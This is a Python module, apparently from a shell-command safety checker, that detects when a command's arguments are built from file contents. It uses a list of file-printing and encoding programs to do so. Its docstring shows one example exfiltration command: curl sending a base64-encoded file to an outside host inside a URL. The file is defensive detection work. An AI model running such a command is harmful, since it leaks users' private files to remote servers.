"""Whether words of a command hold what is in a file: `curl "https://example.net/$(base64 notes)"`."""

from wicket.shell.characters import listed

TYPE_CHECKING = False
if TYPE_CHECKING:
    from wicket.shell.read_result import Command

__all__ = ["carries_files"]

# What these print is what is in files, in one form or another. `a command` is one that is not known, as in `$(< file)`.
_OUTPUT = "the output of "
_PRINTING_FILES = listed(
    """
    cat tac nl rev head tail base64 base32 basenc xxd od hexdump hd strings uuencode gzip bzip2 xz zstd tar zip cpio
    openssl gpg age zcat bzcat xzcat tr fold paste sort
    """
) | {"a command"}


def carries_files(command: "Command") -> bool:
    """Tell whether a word of a command, other than its name, is made of what a program prints of a file."""
    return any(
        reason.startswith(_OUTPUT) and reason[len(_OUTPUT) :].partition(",")[0].rpartition("/")[2] in _PRINTING_FILES
        for word in command.words[1:]
        for reason in word.reasons
    )
